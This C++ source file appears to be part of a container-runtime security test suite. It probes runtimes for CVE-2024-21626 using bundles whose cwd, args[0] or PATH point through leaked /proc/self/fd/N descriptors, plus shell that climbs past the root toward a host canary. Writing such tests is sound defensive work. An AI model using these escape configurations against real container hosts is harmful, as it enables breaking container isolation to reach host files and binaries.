// The runtime's fds and the cwd reaching the host (CVE-2024-21626): fds leaked into the
// container, a cwd of /proc/self/fd/N or an image symlink out of the root, an executable looked
// up through a runtime fd that is still open, and --preserve-fds passing fds the caller never
// had.
#include <sys/stat.h>

#include <optional>
#include <sstream>
#include <stdexcept>

#include "probe/cases/cases.h"
#include "probe/kit.h"

namespace rampart::probe {

namespace {

// Climbs far up from the cwd; if that leaves the root, `.` is not `/` and the host canary is
// visible by its host path.
std::string climb_check(const std::string& canary_dir) {
  return "i=0; while [ $i -lt 40 ]; do cd .. 2>/dev/null; i=$((i+1)); done; "
         "if [ -e ." + canary_dir + "/CANARY ]; then echo HOSTVIEW; fi; "
         "if [ \"$(stat -c %d:%i .)\" != \"$(stat -c %d:%i /)\" ]; then echo OUTSIDE-ROOT; fi; echo CLIMBED";
}

Outcome judge_climb(const Canary& c, const CommandResult& r, const std::string& what) {
  if (auto ch = c.changed(); !ch.empty()) return escaped(ch);
  if (r.out.find("HOSTVIEW") != std::string::npos)
    return escaped(what + ": the container reached the host canary " + c.dir + " from its cwd");
  if (r.out.find("OUTSIDE-ROOT") != std::string::npos) return escaped(what + ": the container's cwd is outside its root");
  if (r.exit_code != 0) return refused(r);
  if (r.out.find("CLIMBED") == std::string::npos) return broken(what + ": no report from the container");
  return resisted(what + ": cwd inside the root");
}

Outcome leaked_fds(Context& ctx) {
  Canary c = make_canary(ctx, "fds-canary");
  Bundle b = ctx.make_bundle("fds");
  set_sh(b, "ls -l /proc/$$/fd; echo ===; cat /proc/$$/fd/3; echo; " + climb_check(c.dir));
  b.write();
  std::string root = ctx.workdir() + "/fds-state";
  make_dir(root);
  // fd 3 of the runtime is an open canary file; --preserve-fds 1 passes exactly it.
  auto argv = ctx.runtime_argv(ctx.runtime(), root);
  argv.insert(argv.end(), {"run", "--preserve-fds", "1", "--bundle", b.dir, "fds"});
  auto r = ctx.host_cmd(holding_fd(3, c.dir + "/CANARY", argv));
  auto del = ctx.runtime_argv(ctx.runtime(), root);
  del.insert(del.end(), {"delete", "-f", "fds"});
  ctx.host_cmd(del);
  if (auto ch = c.changed(); !ch.empty()) return escaped(ch);
  if (r.exit_code != 0) return broken("run --preserve-fds 1 failed: " + squash(r.err));
  auto sep = r.out.find("===");
  if (sep == std::string::npos) return broken("no fd listing from the container");
  std::istringstream in(r.out.substr(0, sep));
  std::string line, leaks;
  while (std::getline(in, line)) {
    auto arrow = line.find(" -> ");
    if (arrow == std::string::npos) continue;
    std::string left = line.substr(0, arrow);
    std::string fd = left.substr(left.find_last_of(' ') + 1);
    if (fd == "0" || fd == "1" || fd == "2" || fd == "3") continue;
    leaks += " " + fd + " -> " + line.substr(arrow + 4) + ";";
  }
  if (!leaks.empty()) return escaped("the container holds fds beyond 0-2 and the preserved 3:" + leaks);
  if (r.out.find(c.tok) == std::string::npos) return broken("the preserved fd 3 did not reach the container");
  auto o = judge_climb(c, r, "preserved fds");
  if (o.verdict != Verdict::Resisted) return o;
  return resisted("only 0, 1, 2 and the preserved fd 3 inside; cwd inside the root");
}

Outcome cwd_proc_fd(Context& ctx) {
  Canary c = make_canary(ctx, "cwd-fd-canary");
  std::vector<Variant> vs;
  for (int n = 3; n <= 9; ++n)
    vs.push_back({"cwd /proc/self/fd/" + std::to_string(n), [&ctx, &c, n] {
                    std::string tag = "cwd-fd-" + std::to_string(n);
                    Bundle b = ctx.make_bundle(tag);
                    b.config["process"]["cwd"] = "/proc/self/fd/" + std::to_string(n);
                    set_sh(b, "pwd; ls -a; " + climb_check(c.dir));
                    b.write();
                    return judge_climb(c, ctx.run(b, tag), "fd " + std::to_string(n));
                  }});
  return run_variants("no runtime fd served as the cwd", vs);
}

Outcome cwd_symlink(Context& ctx) {
  Canary c = make_canary(ctx, "cwd-link-canary");
  std::vector<Variant> vs = {
      {"cwd /work -> ../../..<canary>",
       [&] {
         Bundle b = ctx.make_bundle("cwd-link-dotdot");
         make_symlink(dotdot(16, c.dir), b.rootfs + "/work");
         b.config["process"]["cwd"] = "/work";
         set_sh(b, "pwd; ls -a; " + climb_check(c.dir));
         b.write();
         return judge_climb(c, ctx.run(b, "cwd-link-dotdot"), "relative symlink");
       }},
      {"cwd /work2 -> <canary> (absolute)",
       [&] {
         Bundle b = ctx.make_bundle("cwd-link-absolute");
         make_symlink(c.dir, b.rootfs + "/work2");
         b.config["process"]["cwd"] = "/work2/sub";
         set_sh(b, "pwd; ls -a; if [ -e SUBCANARY ]; then echo HOSTVIEW; fi; " + climb_check(c.dir));
         b.write();
         return judge_climb(c, ctx.run(b, "cwd-link-absolute"), "absolute symlink");
       }},
  };
  return run_variants("the cwd resolved inside the root", vs);
}

// ---- the executable looked up through a runtime fd ----

// A copy of the image's static busybox placed on the host, outside anything the container
// mounts, under the name `sh`: if it runs, the container's process is a host binary.
struct HostBinary {
  std::string dir;
  std::string id;  // "dev:inode" as stat(1) prints them
};

HostBinary make_host_binary(Context& ctx, const Bundle& b, const std::string& name) {
  HostBinary h;
  h.dir = ctx.workdir() + "/" + name;
  make_dir(h.dir);
  auto cp = ctx.host_cmd({"cp", b.rootfs + "/bin/busybox", h.dir + "/sh"});
  if (cp.exit_code != 0) throw std::runtime_error("copying busybox to " + h.dir + ": " + squash(cp.err));
  struct stat st {};
  if (::stat((h.dir + "/sh").c_str(), &st) != 0) throw std::runtime_error("stat " + h.dir + "/sh");
  h.id = std::to_string(st.st_dev) + ":" + std::to_string(st.st_ino);
  return h;
}

// What the container's process runs from, as the container sees it.
const char* kExeReport = "echo \"EXE $(stat -L -c %d:%i /proc/$$/exe) $(readlink /proc/$$/exe)\"; echo DONE";

Outcome judge_host_binary(const HostBinary& h, const CommandResult& r, const std::string& how) {
  for (const auto& l : tagged(r.out, "EXE")) {
    auto f = fields(l);
    if (!f.empty() && f[0] == h.id)
      return escaped("the container's process is the host binary " + h.dir + "/sh, reached " + how);
  }
  if (r.exit_code != 0) return refused(r);
  if (r.out.find("DONE") == std::string::npos) return broken("no report from the container: " + squash(r.out));
  return resisted("the process runs from the image: " + squash(r.out, 100));
}

Outcome exec_through_runtime_fd(Context& ctx) {
  // A host bind source: runtimes hold an fd of it while they set the container up.
  std::string vol = ctx.workdir() + "/exec-fd-vol";
  make_dir(vol);
  std::optional<HostBinary> host;  // made from the first bundle's busybox
  auto bundle = [&](const std::string& tag) {
    Bundle b = ctx.make_bundle(tag);
    if (!host) host = make_host_binary(ctx, b, "exec-fd-host");
    make_dir(b.rootfs + "/vol");
    b.config["mounts"].push_back(bind_mount(vol, "/vol"));
    return b;
  };
  std::vector<Variant> vs;
  for (int n = 3; n <= 9; ++n)
    vs.push_back({"args[0] /proc/self/fd/" + std::to_string(n) + "/../..<host>/sh", [&, n] {
                    std::string tag = "exec-fd-arg0-" + std::to_string(n);
                    Bundle b = bundle(tag);
                    std::string path = "/proc/self/fd/" + std::to_string(n) + "/" + dotdot(16, host->dir + "/sh");
                    b.config["process"]["args"] = nlohmann::json::array({path, "-c", kExeReport});
                    b.write();
                    return judge_host_binary(*host, ctx.run(b, tag), "as args[0] through fd " + std::to_string(n));
                  }});
  vs.push_back({"PATH /proc/self/fd/{3..20}/../..<host> before /bin", [&] {
                  Bundle b = bundle("exec-fd-path");
                  std::string path;
                  for (int n = 3; n <= 20; ++n) path += "/proc/self/fd/" + std::to_string(n) + "/" + dotdot(16, host->dir) + ":";
                  path += "/usr/sbin:/usr/bin:/sbin:/bin";
                  b.config["process"]["env"] = nlohmann::json::array({"PATH=" + path});
                  b.config["process"]["args"] = nlohmann::json::array({"sh", "-c", kExeReport});
                  b.write();
                  return judge_host_binary(*host, ctx.run(b, "exec-fd-path"), "through PATH");
                }});
  return run_variants("no runtime fd led the executable lookup to the host", vs);
}

// --preserve-fds N with nothing open at 3..N+2 in the caller: whatever the container holds
// there, the runtime put there. Several N: a runtime that checks that the fds exist refuses
// an N larger than the number of its own fds, and passes those for a smaller one.
Outcome preserve_fds_gap(Context& ctx) {
  std::string vol = ctx.workdir() + "/preserve-gap-vol";
  make_dir(vol);
  std::vector<Variant> vs;
  for (int n : {1, 3, 6}) {
    vs.push_back({"--preserve-fds " + std::to_string(n), [&ctx, vol, n] {
                    std::string tag = "preserve-gap-" + std::to_string(n);
                    Bundle b = ctx.make_bundle(tag);
                    make_dir(b.rootfs + "/vol");
                    b.config["mounts"].push_back(bind_mount(vol, "/vol"));
                    set_sh(b, "for n in 3 4 5 6 7 8; do if [ -e /proc/$$/fd/$n ]; then "
                              "t=dir; [ -d /proc/$$/fd/$n ] || t=other; echo \"FD $n $t $(readlink /proc/$$/fd/$n)\"; fi; "
                              "done; echo DONE");
                    b.write();
                    ctx.track(tag);
                    auto r = ctx.runtime_cmd({"run", "--preserve-fds", std::to_string(n), "--bundle", b.dir, tag});
                    if (r.exit_code != 0 || r.out.find("DONE") == std::string::npos) return refused(r);
                    auto fds = tagged(r.out, "FD");
                    if (fds.empty()) return resisted("the container holds nothing at 3..8");
                    std::string list;
                    for (const auto& l : fds) list += (list.empty() ? "" : "; ") + l;
                    return escaped("the caller passed no fd above 2, yet the container holds the runtime's own: " +
                                   squash(list, 300));
                  }});
  }
  return run_variants("the container got no fd its caller did not pass", vs);
}

}  // namespace

std::vector<Case> fd_and_cwd_cases() {
  return {
      {"leaked-fds", FdsAndCwd, {"CVE-2024-21626"},
       "the container lists its open fds when the runtime is given --preserve-fds 1 with an open "
       "host canary file, and climbs .. from its cwd",
       leaked_fds},
      {"cwd-proc-self-fd", FdsAndCwd, {"CVE-2024-21626"},
       "process.cwd is /proc/self/fd/N (N = 3..9), a runtime fd leaked into the container", cwd_proc_fd},
      {"cwd-symlink-out", FdsAndCwd, {"CVE-2024-21626"},
       "process.cwd is an image symlink out of the root (../ chain and absolute host path)", cwd_symlink},
      {"exec-through-runtime-fd", FdsAndCwd, {"CVE-2024-21626"},
       "process.args[0] or PATH is /proc/self/fd/N/../..<host dir>: resolved while the runtime still holds fds of "
       "host bind sources, it runs a host binary",
       exec_through_runtime_fd},
      {"preserve-fds-gap", FdsAndCwd, {},
       "run --preserve-fds N (1, 3, 6) from a caller with nothing open above fd 2: the container must not get the "
       "runtime's own fds in the gap",
       preserve_fds_gap},
  };
}

}  // namespace rampart::probe
